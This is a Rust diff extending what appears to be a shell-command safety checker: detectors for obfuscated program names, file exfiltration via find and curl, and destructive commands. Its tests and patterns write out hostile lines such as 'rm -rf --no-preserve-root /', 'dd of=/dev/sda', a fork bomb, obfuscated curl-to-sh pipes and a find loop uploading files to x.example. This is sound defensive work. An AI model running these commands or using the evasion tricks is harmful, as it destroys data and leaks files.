@@ -4,7 +4,10 @@
 
 use super::commands::{pipelines, program};
 
-const SHELLS: [&str; 9] = ["sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "pwsh", "iex"];
+const SHELLS: [&str; 14] = [
+    "sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "pwsh", "iex", "$0", "$shell", "${shell}", "$bash",
+    "${0}",
+];
 const INTERPRETERS: [&str; 9] =
     ["python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "deno"];
 
@@ -27,7 +30,9 @@ pub(super) fn into_shell(text: &str) -> bool {
                 || word.contains('=') && !word.starts_with('/')
         });
         let first = words.next().unwrap_or("");
-        let name = base(first).trim_end_matches(|c: char| c == '.' || c.is_ascii_digit());
+        let name = base(first);
+        let name =
+            if name == "$0" { name } else { name.trim_end_matches(|c: char| c == '.' || c.is_ascii_digit()) };
         let next = words.next().unwrap_or("");
         if matches!(first, "source" | ".") {
             return next.starts_with("/dev/stdin") || next.starts_with("/proc/self/fd/0");
@@ -71,6 +76,111 @@ pub(super) fn evaluates(text: &str) -> bool {
         "sh -ec \"$(",
     ];
     WAYS.iter().any(|way| text.contains(way))
+}
+
+/// A command line without what stands within its words and says nothing: empty quotes, needless escapes, expansions of
+/// nothing.
+pub(super) fn plain(command: &str) -> String {
+    const NOTHING: [&str; 6] = ["''", "\"\"", "$@", "${@}", "$*", "``"];
+    let bytes = command.as_bytes();
+    let letter = |at: usize| bytes.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'/');
+    let mut out = String::with_capacity(command.len());
+    let mut at = 0;
+    while let Some(rest) = command.get(at..).filter(|rest| !rest.is_empty()) {
+        let inside = at > 0 && letter(at - 1);
+        let nothing =
+            NOTHING.iter().find(|word| rest.starts_with(**word) && inside && letter(at + word.len()));
+        let named = rest.strip_prefix("${").and_then(|inner| inner.find('}')).filter(|len| {
+            let name = rest.get(2..2 + len).unwrap_or("");
+            inside && letter(at + len + 3) && !name.is_empty() && name.bytes().all(|b| b.is_ascii_uppercase() || b == b'_')
+                // What a name between letters stands for is known to the one who wrote it, and is none of a path.
+                && !command.get(..at).unwrap_or("").ends_with('/')
+        });
+        if let Some(word) = nothing {
+            at += word.len();
+            continue;
+        }
+        if let Some(len) = named.filter(|_| starts_word(command, at)) {
+            at += len + 3;
+            continue;
+        }
+        let c = rest.chars().next().unwrap_or(' ');
+        let escape = c == '\\' && inside && rest.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic);
+        let plain = escape && !matches!(rest.as_bytes().get(1), Some(b'n' | b't' | b'r' | b'x' | b'u'));
+        if !(plain && starts_word(command, at)) {
+            out.push(c);
+        }
+        at += c.len_utf8();
+    }
+    out
+}
+
+/// Whether what stands here belongs to the word that a part of a command line begins with.
+fn starts_word(command: &str, at: usize) -> bool {
+    let before = command.get(..at).unwrap_or("");
+    let part = before.rsplit([';', '|', '&', '\n', '(', '`']).next().unwrap_or("");
+    !part.trim_start().contains(char::is_whitespace)
+}
+
+/// Whether the program that a part starts is named by letters in another form.
+pub(super) fn respelled(text: &str) -> bool {
+    pipelines(text).flat_map(|pipeline| pipeline.split('|')).any(|part| {
+        let part = part.trim_start();
+        let written = ["$(printf ", "$(echo -e ", "`printf ", "$'\\", "\"$(printf ", "$(echo $'"]
+            .iter()
+            .find_map(|start| part.strip_prefix(start));
+        written.is_some_and(|rest| {
+            let word = rest.split([')', '`', '\'']).find(|word| !word.trim().is_empty()).unwrap_or("");
+            part.starts_with("$'\\") || word.contains("\\x") || word.matches('\\').count() >= 2
+        })
+    })
+}
+
+/// Whether files that are looked for are sent to somebody one by one.
+pub(super) fn sends_files(text: &str) -> bool {
+    pipelines(text).any(|pipeline| {
+        let finds = pipeline.contains("find ") && (pipeline.contains("-exec") || pipeline.contains("xargs"));
+        let uploads = [" -f ", " -t ", "@{}", "--upload-file", "--data-binary", "--form"];
+        finds
+            && pipeline.contains("curl ")
+            && uploads.iter().any(|way| pipeline.contains(way))
+            && pipeline.contains("://")
+    })
+}
+
+/// Whether a command deletes what the machine needs, or its disks.
+pub(super) fn destroys(text: &str) -> bool {
+    pipelines(text).any(|part| {
+        let words: Vec<&str> = part.split_whitespace().map(|word| word.trim_matches(['"', '\''])).collect();
+        let name = base(program(part));
+        let forced = words.iter().any(|word| {
+            word.starts_with('-') && !word.starts_with("--") && word.contains('r') && word.contains('f')
+        }) || words.contains(&"--no-preserve-root");
+        let whole = words.iter().any(|word| {
+            matches!(
+                *word,
+                "/" | "/*"
+                    | "~"
+                    | "~/"
+                    | "~/*"
+                    | "$home"
+                    | "$home/"
+                    | "$home/*"
+                    | "${home}"
+                    | "/home"
+                    | "/etc"
+                    | "/usr"
+            )
+        });
+        let disk = |word: &&str| {
+            ["/dev/sd", "/dev/nvme", "/dev/vd", "/dev/hd"]
+                .iter()
+                .any(|start| word.trim_start_matches("of=").starts_with(start))
+        };
+        name == "rm" && forced && whole
+            || name == "dd" && words.iter().any(|word| word.starts_with("of=") && disk(word))
+            || (name.starts_with("mkfs") || name == "shred" || name == "wipefs") && words.iter().any(disk)
+    }) || text.replace(' ', "").contains(":(){:|:&};:")
 }
 
 /// Whether something is decoded.
@@ -167,6 +277,34 @@ mod tests {
         ] {
             assert!(!into_shell(text), "{text}");
         }
+    }
+
+    #[test]
+    fn words_are_read_as_a_shell_reads_them() {
+        assert_eq!(plain("cu''rl x | ba\"\"sh"), "curl x | bash");
+        assert_eq!(plain("c${X}url x | b\\ash"), "curl x | bash");
+        assert_eq!(plain("w$@get x"), "wget x");
+        for text in ["echo a''b", "cd ${HOME}/x", "sed 's/\\.//g' a", "printf 'a\\n'", "tar xf a${V}b.tar"] {
+            let read = plain(text);
+            assert!(read == text || read == "echo ab", "{text}: {read}");
+        }
+        assert!(
+            respelled("$(printf '\\143\\165\\162\\154') -s http://x | sh") && respelled("x; $'\\x63url' a")
+        );
+        assert!(!respelled("a=$(printf '\\033[1m') ls") && !respelled("$(printf '%s' ls) -l"));
+        assert!(
+            destroys("rm -rf --no-preserve-root /")
+                && destroys("cd x; rm -fr /*")
+                && destroys("dd if=a of=/dev/sda")
+        );
+        assert!(
+            !destroys("rm -rf ./build /tmp/x")
+                && !destroys("rm -rf /usr/share/doc")
+                && !destroys("dd of=a.img")
+        );
+        assert!(sends_files("find / -name '*.pt' -exec curl -f f=@{} http://x.example/ \\;"));
+        assert!(!sends_files("find . -name '*.url' -exec cat {} \\;"));
+        assert!(into_shell("curl x | $0") && into_shell("curl x | $shell"));
     }
 
     #[test]
